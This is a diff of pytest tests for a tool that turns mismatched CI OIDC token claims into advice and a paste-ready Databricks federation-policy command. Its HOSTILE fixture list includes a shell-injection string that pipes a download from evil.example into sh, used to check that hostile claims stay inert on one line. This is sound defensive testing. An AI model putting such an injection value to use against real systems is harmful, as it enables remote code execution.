@@ -15,6 +15,7 @@ from dlt_action.core.reply import SignInProblem
 from dlt_action.core.signin import advice
 from dlt_action.core.signin.identities import GitHub, Variable
 from dlt_action.core.signin.schemes import Federation, Memory
+from dlt_action.core.text import one_line
 from tests.core.signin.flows import play
 from tests.core.signin.replies import (
     CONFIG,
@@ -46,30 +47,33 @@ def mismatch(
 
 
 def test_the_claims_are_shown_that_a_policy_has_to_fit() -> None:
-    lines = mismatch(CLAIMS).advice.splitlines()
-    assert f"  issuer (iss): {ISSUER}" in lines
-    assert f"  subject (sub): {SUBJECT}" in lines
-    assert f"  audience (aud): {TOKEN_URL}" in lines
-    assert "client-id (the application id): app-id" in lines
-    assert not any("expected here" in line for line in lines)
+    problem = mismatch(CLAIMS)
+    assert problem.paste.splitlines()[:4] == [
+        f"issuer (iss): {ISSUER}",
+        f"subject (sub): {SUBJECT}",
+        f"audience (aud): {TOKEN_URL}",
+        f"the subject in GitHub's other format: {NEW}",
+    ]
+    assert "application id app-id needs a federation policy of its own" in (
+        problem.advice
+    )
 
 
 def command(problem: SignInProblem) -> list[str]:
     """The words of the command that is there to be pasted."""
-    (line,) = (
-        line for line in problem.advice.splitlines() if line.startswith("  databricks ")
-    )
+    *_, title, line = problem.paste.splitlines()
+    assert title == "a policy that fits:"
     return shlex.split(line)
 
 
-def test_the_policy_of_a_service_principal_can_be_pasted() -> None:
+def test_a_policy_that_fits_can_be_pasted() -> None:
     *words, policy = command(mismatch(CLAIMS))
     assert words == [
         "databricks",
         "account",
         "service-principal-federation-policy",
         "create",
-        "SERVICE_PRINCIPAL_ID",
+        "NUMERIC_ID",
         "--json",
     ]
     assert json.loads(policy) == {
@@ -77,41 +81,68 @@ def test_the_policy_of_a_service_principal_can_be_pasted() -> None:
     }
 
 
-def test_without_a_client_id_the_policy_is_of_the_account() -> None:
+def test_who_gave_no_client_id_is_told_that_one_may_be_missing() -> None:
     problem = mismatch(CLAIMS, client=None)
-    assert "no federation policy of the account fits" in problem.what
-    assert "client-id was not given" in problem.advice
-    assert command(problem)[:-1] == [
-        "databricks",
-        "account",
-        "federation-policy",
-        "create",
-        "--json",
-    ]
+    assert problem.advice.startswith("client-id was not given")
+    assert problem.paste == mismatch(CLAIMS).paste
 
 
 @pytest.mark.parametrize("told", ["other", ["other", "more"], None, 7])
 def test_an_audience_that_was_asked_for_and_not_given_is_told(told: Json) -> None:
-    lines = mismatch({**CLAIMS, "aud": told}).advice.splitlines()
-    (line,) = (line for line in lines if "was expected here" in line)
-    assert TOKEN_URL in line
-    assert "oidc-audience" in line
+    lines = mismatch({**CLAIMS, "aud": told}).paste.splitlines()
+    assert f"audience that was asked for: {TOKEN_URL}" in lines
 
 
 @pytest.mark.parametrize("told", [TOKEN_URL, [TOKEN_URL], ["other", TOKEN_URL]])
 def test_an_audience_that_was_given_is_not_asked_about(told: Json) -> None:
-    assert "expected here" not in mismatch({**CLAIMS, "aud": told}).advice
+    assert "asked for" not in mismatch({**CLAIMS, "aud": told}).paste
 
 
 @pytest.mark.parametrize(
-    ("told", "audiences"), [("theirs", ["theirs"]), (["a", "b"], ["a", "b"])]
+    ("told", "audiences"),
+    [("theirs", ["theirs"]), (["a", "b"], ["a", "b"]), (list("abcde"), list("abcde"))],
 )
 def test_where_the_ci_chooses_the_audience_the_policy_takes_it(
     told: Json, audiences: list[str]
 ) -> None:
     problem = mismatch({**CLAIMS, "aud": told}, audience=None)
     assert json.loads(command(problem)[-1])["oidc_policy"]["audiences"] == audiences
-    assert "oidc-audience" not in problem.advice
+    assert "asked for" not in problem.paste
+
+
+UNFIT: list[dict[str, Json]] = [
+    {"iss": None},
+    {"iss": ""},
+    {"iss": 7},
+    {"sub": None},
+    {"sub": ["a"]},
+    {"sub": "a\nb"},
+    {"sub": "a" * 301},
+    {"sub": "\u202ea"},
+    {"aud": None},
+    {"aud": ["a", 7]},
+    {"aud": ["a", ""]},
+    {"aud": list("abcdef")},
+    {"aud": "a\tb"},
+]
+
+
+@pytest.mark.parametrize("told", UNFIT)
+def test_no_policy_is_made_that_would_look_right_and_not_fit(
+    told: dict[str, Json],
+) -> None:
+    plain: dict[str, Json] = {"iss": "i", "sub": "s", "aud": "a"}
+    assert "databricks account" in mismatch(plain, audience=None).paste
+    assert "databricks account" not in mismatch({**plain, **told}, audience=None).paste
+
+
+def test_no_policy_is_made_up_for_a_token_that_says_nothing() -> None:
+    assert mismatch({}).paste.splitlines() == [
+        "issuer (iss): null",
+        "subject (sub): null",
+        "audience (aud): null",
+        f"audience that was asked for: {TOKEN_URL}",
+    ]
 
 
 OLD = "repo:octo-org/octo-repo:ref:refs/heads/main"
@@ -142,21 +173,16 @@ def test_a_subject_of_github_is_shown_in_its_other_format_too(
     told: dict[str, Json], other: str | None
 ) -> None:
     assert advice.other_subject(told) == other
-    shown = f"  the same subject in GitHub's other format: {other}"
-    assert (shown in mismatch(told).advice.splitlines()) == (other is not None)
+    shown = f"the subject in GitHub's other format: {other}"
+    assert (shown in mismatch(told).paste.splitlines()) == (other is not None)
 
 
-HOSTILE = [
-    *filter(None, EVERYTHING),
-    "a\n" * 5_000,
-    "`" * 10_000,
-    "'; curl evil.example | sh; '",
-]
+HOSTILE = [*EVERYTHING, "a\n" * 5_000, "`" * 10_000, "'; curl evil.example | sh; '"]
 
 
-def lines_of(problem: SignInProblem) -> int:
-    lines = problem.advice.splitlines()
-    assert lines == problem.advice.split("\n")
+def lines_of(text: str) -> int:
+    lines = text.splitlines()
+    assert lines == text.split("\n")
     assert all(len(line) < 6_000 for line in lines)
     return len(lines)
 
@@ -165,35 +191,35 @@ def lines_of(problem: SignInProblem) -> int:
 @pytest.mark.parametrize("claim", ["iss", "sub", "aud"])
 def test_a_hostile_claim_stays_one_short_line(claim: str, hostile: str) -> None:
     plain: dict[str, Json] = {"iss": "i", "sub": "s", "aud": "a"}
-    usual = lines_of(mismatch(plain, audience=None))
     in_a_list: list[Json] = [hostile, {hostile: [hostile]}]
-    assert lines_of(mismatch({**plain, claim: hostile}, audience=None)) == usual
-    assert lines_of(mismatch({**plain, claim: in_a_list}, audience=None)) == usual
-
-
-@pytest.mark.parametrize("told", [{}, {"iss": ISSUER}, {"sub": SUBJECT}, {"aud": "a"}])
-@pytest.mark.parametrize("audience", [TOKEN_URL, None])
-def test_no_policy_is_made_up_for_a_token_that_says_too_little(
-    told: dict[str, Json], audience: str | None
-) -> None:
-    assert "databricks account" not in mismatch(told, audience).advice
+    for value in (hostile, in_a_list):
+        problem = mismatch({**plain, claim: value}, audience=None)
+        # Three claims; a blank, a title and the command, if one can be made of them.
+        assert lines_of(problem.paste) in (3, 6)
+        assert lines_of(problem.advice) == 1
 
 
 def test_a_long_claim_is_cut_and_the_cut_shows() -> None:
-    advised = mismatch({**CLAIMS, "sub": "x" * 10_000}, client="y" * 10_000).advice
-    lines = advised.splitlines()
-    assert f"  subject (sub): {'x' * 299}…" in lines
-    assert f"client-id (the application id): {'y' * 99}…" in lines
+    problem = mismatch({**CLAIMS, "sub": "x" * 10_000}, client="y" * 10_000)
+    assert f"subject (sub): {'x' * 299}…" in problem.paste.splitlines()
+    assert f" {'y' * 99}… " in problem.advice
 
 
-@given(st.text(min_size=1), st.text(min_size=1), st.text())
+NAMES = st.text(min_size=1).filter(lambda text: one_line(text, 300) == text)
+
+
+@given(NAMES, NAMES, NAMES)
 def test_what_is_pasted_is_one_argument_whatever_a_branch_is_called(
     issuer: str, subject: str, audience: str
 ) -> None:
     told: dict[str, Json] = {"iss": issuer, "sub": subject, "aud": audience}
     *words, policy = command(mismatch(told, audience=None))
     assert len(words) == 6
-    assert set(json.loads(policy)["oidc_policy"]) == {"issuer", "audiences", "subject"}
+    assert json.loads(policy)["oidc_policy"] == {
+        "issuer": issuer,
+        "audiences": [audience],
+        "subject": subject,
+    }
 
 
 def test_a_subject_with_a_quote_is_pasted_as_it_is() -> None:
@@ -204,10 +230,8 @@ def test_a_subject_with_a_quote_is_pasted_as_it_is() -> None:
 
 def test_a_token_for_thousands_of_audiences_is_told_in_short_lines() -> None:
     audiences: list[Json] = [f"audience-{number}" for number in range(5_000)]
-    problem = mismatch({**CLAIMS, "aud": audiences}, audience=None)
-    assert lines_of(problem)
-    policy = json.loads(command(problem)[-1])["oidc_policy"]
-    assert policy["audiences"] == audiences[:5]
+    told: dict[str, Json] = {"iss": "i", "sub": "s", "aud": audiences}
+    assert lines_of(mismatch(told, audience=None).paste) == 3
 
 
 @pytest.mark.parametrize("hostile", HOSTILE)
@@ -219,10 +243,10 @@ def test_hostile_ids_and_causes_stay_one_short_line(hostile: str) -> None:
         advice.no_azure_devops_identity(rejected),
         advice.unreadable_file(hostile),
     ):
-        assert lines_of(problem) == 1
-        assert len(problem.what.splitlines()) == 1
-    assert lines_of(advice.entra_refused(hostile, hostile)(rejected)) == 2
-    assert lines_of(mismatch(CLAIMS, client=hostile)) == lines_of(mismatch(CLAIMS))
+        assert lines_of(problem.advice) == lines_of(problem.what) == 1
+    entra = advice.entra_refused(hostile, hostile)(rejected)
+    assert lines_of(entra.advice) == 1
+    assert lines_of(mismatch(CLAIMS, client=hostile).advice) == 1
 
 
 @given(st.text(), st.text())
@@ -268,7 +292,7 @@ def test_no_part_of_a_token_is_in_any_advice(
     problem = play(
         scheme.flow(HOST, Memory()), *came, given=("request.token.0123456789",)
     ).problem
-    shown = f"{problem.what}\n{problem.advice}\n{problem.said}"
+    shown = f"{problem.what}\n{problem.advice}\n{problem.said}\n{problem.paste}"
     assert [piece for piece in pieces(identity) if piece in shown] == []
     assert "0123456789" not in shown
 
